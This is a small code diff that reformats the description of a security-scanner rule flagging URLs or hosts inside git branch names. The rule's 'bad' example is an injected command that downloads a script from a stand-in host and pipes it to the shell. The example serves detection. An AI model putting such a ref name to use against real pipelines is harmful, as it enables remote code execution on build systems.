@@ -7,7 +7,8 @@ export const meta: RuleMeta = {
   id: 'CG-REF-008',
   title: 'URL or host inside a ref name',
   severity: 'medium',
-  description: 'A URL scheme, or a host name next to shell syntax (hackmoltrepeat.com, raw.githubusercontent.com/…), is where an injected command downloads its payload from. Host names alone are ordinary in bot branches (dependabot/go_modules/golang.org/x/net-0.17.0, renovate/github.com-pkg-errors-0.x) and are not reported.',
+  description:
+    'A URL scheme, or a host name next to shell syntax (hackmoltrepeat.com, raw.githubusercontent.com/…), is where an injected command downloads its payload from. Host names alone are ordinary in bot branches (dependabot/go_modules/golang.org/x/net-0.17.0, renovate/github.com-pkg-errors-0.x) and are not reported.',
   remediation: 'rename the branch; block the host if the name came from an untrusted pull request',
   example: {bad: `x;curl\${IFS}hackmoltrepeat.com/molt|sh`, good: 'dependabot/go_modules/golang.org/x/net-0.17.0'},
   examples: {
